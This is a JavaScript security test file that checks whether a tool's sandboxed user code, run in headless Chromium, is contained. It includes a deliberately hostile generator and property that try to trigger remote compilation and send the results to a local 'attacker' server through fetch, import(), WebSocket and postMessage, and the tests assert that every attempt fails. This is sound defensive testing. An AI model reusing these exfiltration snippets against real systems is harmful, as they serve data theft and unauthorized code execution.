// Containment of users' JavaScript, in headless chromium against `whittle serve` on 127.0.0.1
// (issue 25). Three origins: the whittle server behind a counting proxy (the page's origin), an
// "attacker" server on another port that serves a page framing the embed and counts whatever
// reaches it, and the page's sandbox frame (opaque). Asserted:
//   - a page on another origin frames `/e#<generator link>` and clicks Replay: the embed shows
//     the recorded outputs, the link's generator does not run, no compile request (nor any API
//     request) reaches the server, nothing reaches the attacker, nothing is posted to it;
//   - in the playground, the same generator (allowed, reduced) and a link's JavaScript property
//     run sandboxed: their fetch, import() and WebSocket fail, and nothing reaches anyone.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { createServer, request } from 'node:http';
import { deflateRawSync } from 'node:zlib';
import { decodeLink, launchBrowser, openPage as open, startServer, finished } from './harness.mjs';

const encodeHash = (state) => `#v1,${deflateRawSync(Buffer.from(JSON.stringify(state))).toString('base64url')}`;

let browser;
let server; // whittle serve
let proxy; // the page's origin: whittle serve behind a proxy that counts API requests
let attacker; // another origin: a framing page, and a sink for leaks

before(async () => {
  server = await startServer();
  proxy = await startProxy(server.port);
  attacker = await startAttacker();
  browser = await launchBrowser();
});
after(async () => {
  await browser?.close();
  await attacker?.stop();
  await proxy?.stop();
  await server?.stop();
});

/** A proxy on 127.0.0.1 in front of whittle serve that records each /api/ request it passes on. */
async function startProxy(port) {
  const api = [];
  const srv = createServer((req, res) => {
    if (req.url.startsWith('/api/')) api.push(`${req.method} ${req.url}`);
    const up = request({ host: '127.0.0.1', port, method: req.method, path: req.url, headers: req.headers }, (r) => {
      res.writeHead(r.statusCode, r.headers);
      r.pipe(res);
    });
    up.on('error', () => res.destroy());
    req.pipe(up);
  });
  await new Promise((r) => srv.listen(0, '127.0.0.1', r));
  return { url: `http://127.0.0.1:${srv.address().port}/`, api, stop: () => new Promise((r) => srv.close(r)) };
}

/** The attacker's server: `/frame?src=URL` frames URL and records the messages posted to it;
 *  every other request is a leak (answered, with CORS, as a script would be). */
async function startAttacker() {
  const leaks = [];
  const srv = createServer((req, res) => {
    if (req.url.startsWith('/frame?')) {
      const src = new URL(req.url, 'http://x').searchParams.get('src');
      res.setHeader('Content-Type', 'text/html');
      return res.end(`<!doctype html><script>window.received = []; addEventListener('message', (e) => window.received.push(String(JSON.stringify(e.data)).slice(0, 200)));</script>
<iframe id="embed" src="${src.replace(/"/g, '&quot;')}" width="1300" height="850"></iframe>`);
    }
    if (req.url !== '/favicon.ico') leaks.push(`${req.method} ${req.url}`);
    res.setHeader('Access-Control-Allow-Origin', '*');
    res.setHeader('Content-Type', 'text/javascript');
    res.end('export default 1;');
  });
  await new Promise((r) => srv.listen(0, '127.0.0.1', r));
  const url = `http://127.0.0.1:${srv.address().port}/`;
  return { url, leaks, stop: () => new Promise((r) => { srv.closeAllConnections(); srv.close(r); }) };
}

/** A generator that tries what the attack did: compile with execution on at the page's origin,
 *  and send the answer (and a hello) to the attacker; its output is "x" per iteration, plus one. */
const evilGenerator = () => `const page = ${JSON.stringify(proxy.url)}, sink = ${JSON.stringify(attacker.url)};
const body = JSON.stringify({ source: 'int main(void) { return 0; }', options: { userArguments: '', filters: { execute: true } } });
export function generate(g) {
  try {
    fetch(page + 'api/compiler/gcc/compile', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body })
      .then((r) => r.text()).then((t) => fetch(sink + 'leak/answer', { method: 'POST', body: t })).catch(() => {});
    fetch(sink + 'leak/hello').catch(() => {});
  } catch {}
  try { postMessage({ leak: 'from the generator' }); } catch {}
  let w = '';
  g.repeat('c', 0, 3, () => { w += 'x'; });
  return w + 'x\\n';
}
`;

/** Each test counts from nothing. */
function forget() {
  proxy.api.length = 0;
  attacker.leaks.length = 0;
}

const openPage = (url) =>
  open(browser, url, (page) => {
    page.apiRequests = [];
    page.on('request', (r) => new URL(r.url()).pathname.startsWith('/api/') && page.apiRequests.push(r.url()));
  });


let generatorLink = null;

test('in the playground, a generator runs sandboxed: it reduces, and its fetches reach no one', async () => {
  const page = await openPage(proxy.url);
  await page.selectOption('#mode', 'generator');
  await page.selectOption('#endpoint', 'none');
  await page.click('.segmented label:has(input[name=prop-kind][value=regex])');
  await page.fill('#prop-regex', 'x');
  for (const s of ['stdout', 'stderr', 'asm', 'run', 'source']) await page.setChecked(`input[name=stream][value=${s}]`, s === 'source');
  await page.selectOption('#exit-op', 'any');
  await page.evaluate((src) => window.whittle.setGenerator(src), evilGenerator());
  forget(); // (the page listed this server's compilers as it opened)
  await page.waitForFunction(() => !document.querySelector('#reduce').disabled && document.querySelector('#reduce').title.startsWith('Reduce while'), null, { polling: 100 });
  await page.click('#reduce');
  await finished(page);
  assert.match(await page.textContent('#status'), /^done/);
  assert.equal(await page.evaluate(() => window.whittle.result()), 'x\n');
  generatorLink = await page.evaluate(() => window.whittle.shareLink());
  await page.waitForTimeout(500);
  assert.deepEqual(attacker.leaks, [], 'the generator’s requests never left the sandbox');
  assert.deepEqual(proxy.api, [], 'no API request: the endpoint is none, and the generator cannot fetch');
  assert.deepEqual(page.errors, []);
  await page.close();
});

test('a page on another origin frames /e with a generator link and clicks Replay: nothing compiles, nothing leaks', async () => {
  assert.ok(generatorLink, 'the first test made the link');
  // The attacker's link asks for this server's gcc with execution on, and carries the recording.
  const state = { ...decodeLink(generatorLink), endpoint: { kind: 'whittle', base: '' }, compiler: 'gcc', execute: true };
  assert.equal(state.outputs?.best, 'x\n', 'the link records the outputs');
  const embedUrl = `${proxy.url}e${encodeHash(state)}`;
  forget();
  const page = await browser.newPage({ viewport: { width: 1400, height: 950 } });
  const errors = [];
  page.on('pageerror', (e) => errors.push(e.message));
  const api = [];
  page.on('request', (r) => new URL(r.url()).pathname.startsWith('/api/') && api.push(`${r.method()} ${r.url()}`));
  await page.goto(`${attacker.url}frame?src=${encodeURIComponent(embedUrl)}`);
  const frame = await (await page.waitForSelector('#embed')).contentFrame();
  await frame.waitForSelector('body[data-ready="true"]', { timeout: 30000 });
  assert.ok(await frame.evaluate(() => document.body.classList.contains('embed')));
  assert.match(await frame.textContent('#notice-text'), /never runs the generator/);
  await frame.click('#reduce'); // Replay
  await finished(frame);
  assert.match(await frame.textContent('#status'), /^done.*recorded outputs/);
  assert.equal(await frame.textContent('#result'), 'x\n', 'the recorded best');
  assert.equal(await frame.textContent('#generator-original'), 'xxxx\n', 'the recorded free run');
  await frame.press('body', 'Control+Enter'); // and once more by keyboard
  await page.waitForTimeout(1500);
  assert.deepEqual(proxy.api, [], 'no API request reached the server');
  assert.deepEqual(api, [], 'no frame asked for one');
  assert.deepEqual(attacker.leaks, [], 'nothing reached the attacker');
  assert.deepEqual(await page.evaluate(() => window.received), [], 'nothing was posted to the framing page');
  assert.deepEqual(errors, []);
  await page.close();
});

test("a link's JavaScript property runs sandboxed: fetch, import() and WebSocket fail", async () => {
  // Each way out would succeed without the sandbox: the attacker answers with CORS, and so does
  // whittle serve's compiler list.
  const property = `async (result, input) => {
  const ways = [
    () => fetch(${JSON.stringify(`${attacker.url}leak/property`)}),
    () => fetch(${JSON.stringify(`${proxy.url}api/compilers`)}),
    () => import(${JSON.stringify(`${attacker.url}leak/module.js`)}),
    () => new Promise((ok, no) => { const ws = new WebSocket(${JSON.stringify(attacker.url.replace('http', 'ws'))}); ws.onopen = ok; ws.onerror = no; }),
  ];
  for (const way of ways) {
    try { await way(); return false; } catch {}
  }
  return input.includes('keep');
}`;
  const state = {
    mode: 'single', lang: 'c', strategy: 'perses',
    variant: 'int keep(void) { return 1; }\nint drop(int x) { return x * 2; }\nint main(void) { return keep() + drop(3); }\n',
    endpoint: { kind: 'none', base: '' }, compiler: '', flags: '', execute: false,
    property: { kind: 'js', js: property },
    settings: { k: 2, timeoutS: 30, shareVerdicts: true },
  };
  forget();
  const page = await openPage(`${proxy.url}${encodeHash(state)}`);
  await page.click('#js-run'); // allow the link's property
  await page.click('#check');
  await page.waitForFunction(() => /✓|✗|threw|not/.test(document.querySelector('#check-result').textContent), null, { polling: 100, timeout: 30000 });
  assert.match(await page.textContent('#check-result'), /✓ has the property/, 'every way out failed');
  // A reduction tests it on every candidate, each time in the sandbox.
  await page.click('#reduce');
  await finished(page);
  assert.match(await page.textContent('#status'), /^done/);
  assert.match(await page.evaluate(() => window.whittle.result()), /keep/);
  assert.doesNotMatch(await page.evaluate(() => window.whittle.result()), /drop/);
  await page.waitForTimeout(500);
  assert.deepEqual(attacker.leaks, [], 'nothing reached the attacker');
  assert.deepEqual(proxy.api, [], 'nothing reached the API');
  assert.deepEqual(page.apiRequests, []);
  assert.deepEqual(page.errors, []);
  await page.close();
});
